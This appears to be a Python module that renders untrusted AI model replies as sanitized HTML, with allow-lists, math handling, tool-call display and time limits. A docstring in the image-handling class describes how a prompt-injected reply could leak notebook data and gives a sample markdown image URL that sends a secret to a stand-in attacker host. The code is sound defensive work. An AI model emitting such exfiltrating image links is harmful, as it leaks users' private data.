"""Pure markdown → sanitized HTML for replies (no IPython here).

Model text is untrusted: it goes through Python-Markdown, then nh3, or ``html.escape``.
Math (``$…$``, ``$$…$$``, ``\\(…\\)``, ``\\[…\\]``) is swapped for placeholders
before markdown and put back afterwards: escaped, so MathJax sees it intact, or as
MathML where the frontend has no MathJax (``mathml.py``).
"""

from __future__ import annotations

import dataclasses
import functools
import html
import logging
import re
import secrets
import threading
import time
from collections.abc import Callable, Mapping, Sequence
from typing import Any
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import markdown
import nh3
from markdown.treeprocessors import Treeprocessor
from pygments.formatters import HtmlFormatter  # type: ignore[import-untyped, unused-ignore]

from ..text import printable, printable_text
from ..types import Reply, ToolBlock
from .bounded import bound_link_processors
from .mathml import math_html
from .mdprep import close_open_fence, normalize_list_indent, split_blocks

_log = logging.getLogger(__name__)

_EXTENSIONS = ["fenced_code", "tables", "codehilite", "sane_lists"]
_EXTENSION_CONFIGS = {
    "codehilite": {"css_class": "codehilite", "guess_lang": False, "noclasses": False},
    "tables": {"use_align_attribute": True},
}
_TAGS = {
    *("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd"),
    *("table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption"),
    *("code", "pre", "span", "div", "blockquote", "kbd", "samp", "var"),
    *("em", "strong", "b", "i", "u", "del", "s", "ins", "mark", "small"),
    *("a", "details", "summary", "hr", "br", "sup", "sub", "abbr"),
}
_ATTRIBUTES = {
    "a": {"href", "title"},
    "abbr": {"title"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
    **{tag: {"class"} for tag in ("code", "pre", "span", "div")},
}
_URL_SCHEMES = {"http", "https", "mailto"}
_CODE = r"""
    (?P<fence>^[ \t]{0,3}(?P<mark>`{3,}|~{3,})[^\n]*(?:\n.*?)??
        (?:\n[ \t]{0,3}(?P=mark)[`~]*[ \t]*(?=\n|\Z)|\Z))
  | (?P<span>(?<!`)(?P<ticks>`+)(?!`)(?:(?!\n[ \t]*\n).)*?(?<!`)(?P=ticks)(?!`))
"""
_MATH = r"""
    (?P<math>
        (?<!\\)\$\$.+?(?<!\\)\$\$
      | (?<!\\)\\\[.+?\\\]
      | (?<!\\)\\\(.+?\\\)
      | (?<![\\$])\$(?![\s$])[^\n$]*?[^\s\\$]\$(?![\d$])
    )
"""
_TAG = r"""
    (?P<tag></?(?P<tagname>[A-Za-z][A-Za-z0-9-]*)(?P<scheme>:)?|<[!?])
"""
_TOKENS = re.compile(_CODE + "|" + _MATH + "|" + _TAG, re.VERBOSE | re.DOTALL | re.MULTILINE)


def protect_math(text: str) -> tuple[str, dict[str, str]]:
    """Prepare markdown outside code: math becomes placeholders; unknown tags become text.

    A tag we would not keep (``<script>``, ``<textarea>``, ``<!--`` …) is written as
    text: left as HTML, the sanitizer would drop everything up to its closing tag,
    and a reply that merely *mentions* ``<script>`` would lose its rest.
    """
    nonce = secrets.token_hex(4).upper()
    found: dict[str, str] = {}

    def swap(match: re.Match[str]) -> str:
        if match.group("tag") is not None:
            return _keep_or_escape_tag(match)
        if match.group("math") is None:
            return match.group(0)
        key = f"GMIMATH{nonce}N{len(found)}X"
        found[key] = match.group("math")
        return key

    return _TOKENS.sub(swap, text), found


CURSOR = '<span class="gmi-cursor">▌</span>'  # the end of a reply still streaming
TAG_LOOKAHEAD = 1_000  # a tag must close within this; else Python-Markdown's scan is quadratic


def _keep_or_escape_tag(match: re.Match[str]) -> str:
    name = (match.group("tagname") or "").lower()
    kept = match.group("scheme") or name in _TAGS  # an autolink, or a tag the sanitizer keeps
    end = match.end()
    if kept and match.string.find(">", end, end + TAG_LOOKAHEAD) >= 0:
        return match.group(0)
    return "&lt;" + match.group(0)[1:]


def restore_math(html_text: str, found: dict[str, str]) -> str:
    """Put protected math back: HTML-escaped TeX for MathJax, or clean MathML."""
    if not found:
        return html_text
    pattern = re.compile("|".join(map(re.escape, found)))
    return pattern.sub(lambda m: math_html(found[m.group(0)]), html_text)


@functools.cache
def _token_classes() -> frozenset[str]:
    """The CSS classes Pygments puts on highlighted code (``k``, ``s1``, ``hll`` …)."""
    from pygments.token import STANDARD_TYPES

    return frozenset(name for name in STANDARD_TYPES.values() if name) | {"hll"}


_LANGUAGE_CLASS = re.compile(r"language-[A-Za-z0-9_+#.-]{1,40}\Z")
_ALIGN = {"left", "right", "center"}


def _class_allowed(tag: str, name: str) -> bool:
    """Only the classes our markdown produces; never a frontend's (``jp-Dialog``, ``modal``)."""
    if tag == "span":
        return name in _token_classes()
    if tag == "div":
        return name == "codehilite"
    if tag == "code":
        return _LANGUAGE_CLASS.match(name) is not None
    return False


def _filter_attribute(tag: str, attribute: str, value: str) -> str | None:
    """Allow-list attribute values: classes per tag, table alignment, list starts."""
    if attribute == "class":
        kept = [name for name in value.split() if _class_allowed(tag, name)]
        return " ".join(kept) or None
    if attribute == "align":
        return value if value.lower() in _ALIGN else None
    if attribute == "start":
        return value if value.isdigit() and len(value) <= 9 else None
    return value


@functools.cache
def _cleaner() -> nh3.Cleaner:
    return nh3.Cleaner(
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        attribute_filter=_filter_attribute,
        url_schemes=_URL_SCHEMES,
        url_relative="deny",
    )


def sanitize(html_text: str) -> str:
    """Sanitize untrusted HTML with nh3 (allow-list of tags, attributes, schemes)."""
    return _cleaner().clean(html_text)


class ImagesAsLinks(Treeprocessor):  # type: ignore[misc]
    """Markdown images become links the reader may open.

    A remote image loads by itself, so a prompt-injected reply could leak notebook
    data through its URL (``![](https://evil.example/?q=secret)``).
    """

    def run(self, root: Element) -> None:
        for image in root.iter("img"):
            src, alt = image.get("src", ""), image.get("alt") or "image"
            image.tag = "a"
            image.attrib.clear()
            image.set("href", src)
            image.text = f"🖼 {alt}"


_LOCAL = threading.local()


def _converter() -> markdown.Markdown:
    """One reusable Markdown converter per thread (building one costs ~0.1 ms)."""
    converter: markdown.Markdown | None = getattr(_LOCAL, "converter", None)
    if converter is None:
        converter = markdown.Markdown(
            extensions=_EXTENSIONS, extension_configs=_EXTENSION_CONFIGS, output_format="html"
        )
        converter.treeprocessors.register(ImagesAsLinks(converter), "gmi_images", 8)
        bound_link_processors(converter)
        _LOCAL.converter = converter
    return converter.reset()


def _discard_converter() -> None:
    """Forget this thread's converter: a failed ``convert`` leaves it half-way (broken)."""
    _LOCAL.converter = None


_PLAIN = re.compile(r"[A-Za-z0-9 ,;:?!'\"%().\n]*\Z")  # no markdown syntax can occur
_PLAIN_TRAPS = re.compile(r"^(?:\d+[.)]| )|  \n", re.MULTILINE)  # lists, indents, breaks
_BLANK_LINE = re.compile(r"\n[ \t]*\n")


def plain_paragraphs(text: str) -> str | None:
    """HTML for prose with no markdown syntax (as Python-Markdown would give), else None.

    Streaming repaints hit this for most prose tails; it skips the markdown engine.
    """
    if not _PLAIN.match(text) or _PLAIN_TRAPS.search(text):
        return None
    paragraphs = (part.strip("\n") for part in _BLANK_LINE.split(text))
    return "\n".join(f"<p>{html.escape(p, quote=False)}</p>" for p in paragraphs if p.strip())


CHUNK_CHARS = 4_000  # longer texts render in pieces this size, cut between blocks
BUDGET_SECONDS = 1.0  # per render, plus BUDGET_PER_CHAR for each character
BUDGET_PER_CHAR = 50e-6
_clock = time.perf_counter


def markdown_to_html(text: str) -> str:
    """Render untrusted markdown to sanitized HTML, keeping math for MathJax.

    Never raises, and takes time linear in ``len(text)``: pieces past the time
    budget, or that Python-Markdown cannot render, are shown as escaped plain text.
    """
    text = printable_text(text)  # no escape sequences or bidi overrides in the page either
    if not text:
        return ""
    fast = plain_paragraphs(text)
    if fast is not None:
        return fast
    pieces = split_blocks(text, CHUNK_CHARS)
    references = reference_definitions(text) if len(pieces) > 1 else {}
    out: list[str] = []
    late: list[str] = []  # pieces past the budget, shown together as plain text
    started, allowance = _clock(), BUDGET_SECONDS
    for piece in pieces:
        allowance += BUDGET_PER_CHAR * len(piece)
        if _clock() - started > allowance:
            late.append(piece)
            continue
        if late:
            out.append(plain_text_html("".join(late), "it took too long to render"))
            late = []
        out.append(_render_piece(piece, references))
    if late:
        out.append(plain_text_html("".join(late), "it took too long to render"))
    return "\n".join(out)


def _render_piece(text: str, references: dict[str, tuple[str, str | None]]) -> str:
    """One piece through Python-Markdown and nh3; plain text if that fails."""
    try:
        protected, found = protect_math(normalize_list_indent(close_open_fence(text)))
        converter = _converter()
        converter.references.update(references)
        converted = _RAW_TEXT_TAG.sub("&lt;", converter.convert(protected))
        return restore_math(sanitize(converted), found)
    except RecursionError:
        _discard_converter()
        return plain_text_html(text, "it nests too deeply")
    except Exception as error:  # a renderer bug must not cost the user the reply
        _discard_converter()
        _log.warning("markdown rendering failed", exc_info=error)
        return plain_text_html(text, f"the markdown renderer failed ({type(error).__name__})")


def plain_text_html(text: str, reason: str) -> str:
    """``text`` escaped in a ``<pre>``, under a one-line note saying why."""
    note = div("gmi-note", f"shown as plain text: {reason}")
    return f'{note}<pre class="gmi-plain">{html.escape(text)}</pre>'


_REFERENCE = re.compile(
    r"""^[ ]{0,3}\[([^\[\]\n]+)\]:[ \t]*<?([^\s>]+)>?"""
    r"""(?:[ \t]+(?:"([^"\n]*)"|'([^'\n]*)'))?[ \t]*$""",
    re.MULTILINE,
)


def reference_definitions(text: str) -> dict[str, tuple[str, str | None]]:
    """``[id]: url "title"`` definitions, so a piece can use those of other pieces."""
    return {
        m.group(1).strip().lower(): (m.group(2), m.group(3) or m.group(4))
        for m in _REFERENCE.finditer(text)
    }


# Elements whose content a sanitizer drops up to a closing tag that may never come; any
# still raw after markdown (e.g. inside a raw HTML block) is shown as text instead.
_RAW_TEXT_TAG = re.compile(
    r"<(?=/?(?:script|style|textarea|title|xmp|iframe|noembed|noframes|noscript|plaintext"
    r"|template|svg|math|object|embed|select|option)\b)|<(?=!--)",
    re.IGNORECASE,
)


_EXTRA_CSS = """
.gmi-reply table { border-collapse: collapse; margin: 0.5em 0; }
.gmi-reply th, .gmi-reply td { border: 1px solid #8888; padding: 0.2em 0.6em; }
.gmi-reply .codehilite { padding: 0.4em 0.6em; border-radius: 4px; overflow-x: auto;
  margin: 0.5em 0; }
.gmi-reply .codehilite pre { margin: 0; line-height: 125%; }
.gmi-reply details.gmi-thinking { opacity: 0.75; border-left: 3px solid #8886;
  padding-left: 0.6em; margin-bottom: 0.5em; }
.gmi-reply details.gmi-thinking summary { cursor: pointer; font-style: italic; }
.gmi-reply .gmi-note { font-size: 0.85em; color: #b8860b; margin-top: 0.3em; }
.gmi-reply .gmi-error { color: #d32f2f; font-weight: bold; margin-top: 0.3em; }
.gmi-reply .gmi-footer { font-size: 0.8em; opacity: 0.6; margin-top: 0.4em; }
.gmi-reply .gmi-cursor { opacity: 0.6; }
.gmi-reply details.gmi-tool { border-left: 3px solid #4a90d9; padding-left: 0.6em;
  margin-bottom: 0.4em; font-size: 0.9em; }
.gmi-reply details.gmi-tool-error { border-left-color: #d32f2f; }
.gmi-reply details.gmi-tool summary { cursor: pointer; font-family: monospace; }
.gmi-reply details.gmi-tool pre { max-height: 20em; overflow: auto; margin: 0.3em 0; }
"""


@functools.cache
def stylesheet(style: str = "default") -> str:
    """Our trusted CSS: scoped Pygments token colours plus reply chrome."""
    formatter = HtmlFormatter(style=style)
    scope = ".gmi-reply .codehilite"
    background = formatter.get_background_style_defs(scope)
    tokens = formatter.get_token_style_defs(scope)
    css = "\n".join([*background, *tokens])
    return re.sub(r"\s*/\*.*?\*/", "", css) + _EXTRA_CSS  # comments only cost bytes


def div(css_class: str, text: str) -> str:
    """``text`` escaped, as one ``<div class=…>`` line (notes, errors, the footer)."""
    return f'<div class="{css_class}">{html.escape(printable_text(text))}</div>'


def thinking_html(body: str, *, expanded: bool, label: str = "Thinking") -> str:
    """Rendered thinking in a ``<details>`` block, collapsed unless ``expanded``."""
    opened = " open" if expanded else ""
    return f'<details class="gmi-thinking"{opened}><summary>{label}</summary>{body}</details>'


def with_cursor(body: str) -> str:
    """The streaming cursor at the end of the text, not on a line of its own."""
    return body[:-4] + CURSOR + "</p>" if body.endswith("</p>") else body + CURSOR


def tail_lines(reply: Reply, notes: Sequence[str], error: str) -> list[str]:
    """The lines under a reply: notes, the error, then the footer (may be empty)."""
    return [*notes, *([f"Error: {error}"] if error else []), footer_text(reply)]


@dataclasses.dataclass(frozen=True)
class Round:
    """An earlier request round of a tool-calling reply: its thinking, then its tools."""

    reasoning: str = ""
    tools: tuple[ToolBlock, ...] = ()


def earlier_rounds(extra: Sequence[Mapping[str, Any]]) -> list[Round]:
    """The rounds a saved turn's tool-loop messages (``Turn.extra``) record, in order.

    Each assistant message that asked for tools is one round; its thinking is the
    ``reasoning_content`` it was sent back with (tool timings are not saved).
    """
    return [
        Round(str(message.get("reasoning_content") or ""))
        for message in extra
        if message.get("role") == "assistant" and "tool_calls" in message
    ]


def _rounds_html(
    rounds: Sequence[Round], reasoning: str, render: Callable[[str], str], *, expanded: bool
) -> list[str]:
    """Each round's thinking (collapsed) and tools, then the final thinking."""
    numbered = len(rounds) > 0
    parts: list[str] = []
    for number, earlier in enumerate(rounds, 1):
        if earlier.reasoning:
            label = f"Thinking (round {number})"
            parts.append(thinking_html(render(earlier.reasoning), expanded=False, label=label))
        parts.extend(tool_html(block) for block in earlier.tools)
    if reasoning:
        label = f"Thinking (round {len(rounds) + 1})" if numbered else "Thinking"
        parts.append(thinking_html(render(reasoning), expanded=expanded, label=label))
    return parts


MAX_TOOL_OUTPUT_SHOWN = 2_000


def _clip(text: str, limit: int) -> str:
    return text if len(text) <= limit else text[:limit] + f"… [{len(text) - limit:,} more chars]"


def tool_html(block: ToolBlock) -> str:
    """A collapsed block for one tool call; every piece escaped."""
    status = f" · error: {printable(block.error)}" if block.error else ""
    call = f"{printable(block.name)}({printable(_clip(block.arguments, 200))})"
    summary = f"🔧 {call} · {block.seconds:.2f} s{status}"
    css = "gmi-tool gmi-tool-error" if block.error else "gmi-tool"
    body = html.escape(printable_text(_clip(block.output, MAX_TOOL_OUTPUT_SHOWN)))
    return (
        f'<details class="{css}"><summary>{html.escape(summary)}</summary>'
        f"<pre>{body}</pre></details>"
    )


def tool_text(block: ToolBlock) -> str:
    """The same block as one plain-text line for terminals."""
    outcome = f"error: {block.error}" if block.error else _clip(block.output, 200)
    call = f"{block.name}({_clip(block.arguments, 200)})"
    return printable(f"[tool] {call} -> {outcome} ({block.seconds:.2f} s)")


def provenance(reply: Reply) -> dict[str, Any]:
    """Output metadata recording what produced a reply (never the key)."""
    meta = reply.metadata
    base_url = str(meta.get("base_url", ""))
    return {
        "model": reply.model,
        "host": urlsplit(base_url).hostname or "",
        "params": meta.get("params", {}),
        "usage": reply.usage.to_dict() if reply.usage else None,
        "latency": round(reply.latency, 3),
        "finish_reason": reply.finish_reason,
        "thread": meta.get("thread"),
        "turn": meta.get("turn"),
        "interrupted": reply.interrupted,
    }


def reply_html(
    text: str,
    *,
    reasoning: str = "",
    tools: Sequence[ToolBlock] = (),
    footer: str = "",
    notes: Sequence[str] = (),
    error: str = "",
    streaming: bool = False,
    render: Callable[[str], str] = markdown_to_html,
    render_reasoning: Callable[[str], str] = markdown_to_html,
    rounds: Sequence[Round] = (),
) -> str:
    """The full sanitized HTML of one reply, wrapped in ``div.gmi-reply``.

    ``rounds`` are the earlier rounds of a tool-calling reply (each one's thinking
    collapsed, then its tools); ``reasoning`` and ``tools`` belong to the last one.
    ``render`` / ``render_reasoning`` turn markdown into sanitized HTML (a
    ``StreamingMarkdown.render`` while streaming).
    """
    parts = [f'<div class="gmi-reply"><style>{stylesheet()}</style>']
    expanded = streaming and not text
    parts.extend(_rounds_html(rounds, reasoning, render_reasoning, expanded=expanded))
    parts.extend(tool_html(block) for block in tools)
    body = render(text)
    parts.append(with_cursor(body) if streaming else body)
    parts.extend(div("gmi-note", note) for note in notes)
    if error:
        parts.append(div("gmi-error", error))
    if footer:
        parts.append(div("gmi-footer", footer))
    parts.append("</div>")
    return "".join(parts)


def footer_text(reply: Reply) -> str:
    """One line: model · tokens · cost (when priced) · latency (· interrupted)."""
    parts = [printable(reply.model)] if reply.model else []
    usage = reply.usage
    if usage is not None:
        tokens = f"{usage.prompt_tokens} in / {usage.completion_tokens} out tokens"
        if usage.reasoning_tokens:
            tokens += f" ({usage.reasoning_tokens} reasoning)"
        parts.append(tokens)
    cost = reply.metadata.get("cost")
    if isinstance(cost, (int, float)) and not isinstance(cost, bool) and 0 <= cost < 1e9:
        parts.append(f"${cost:.4f}" if cost < 1 else f"${cost:,.2f}")
    if reply.latency > 0:
        parts.append(f"{reply.latency:.1f} s")
    if reply.interrupted:
        parts.append("interrupted")
    return " · ".join(parts)


def reply_text(
    reply: Reply,
    *,
    notes: Sequence[str] = (),
    error: str = "",
    tools: Sequence[ToolBlock] = (),
) -> str:
    """Plain-text rendering for terminals: thinking, raw markdown, notes, footer."""
    head = f"[Thinking]\n{reply.reasoning}\n[/Thinking]\n\n" if reply.reasoning else ""
    head += "".join(tool_text(block) + "\n" for block in tools)
    tail_text = "\n".join(line for line in tail_lines(reply, notes, error) if line)
    text = f"{head}{reply.text}\n\n{tail_text}" if tail_text else head + reply.text
    return printable_text(text)


def reply_bundle(
    reply: Reply,
    *,
    notes: Sequence[str] = (),
    error: str = "",
    tools: Sequence[ToolBlock] = (),
    render: Callable[[str], str] = markdown_to_html,
    render_reasoning: Callable[[str], str] = markdown_to_html,
    rounds: Sequence[Round] = (),
) -> dict[str, str]:
    """The MIME bundle for a finished reply: sanitized HTML plus plain text."""
    page = reply_html(
        reply.text,
        reasoning=reply.reasoning,
        tools=tools,
        footer=footer_text(reply),
        notes=notes,
        error=error,
        render=render,
        render_reasoning=render_reasoning,
        rounds=rounds,
    )
    return {
        "text/html": page,
        "text/plain": reply_text(reply, notes=notes, error=error, tools=tools),
    }
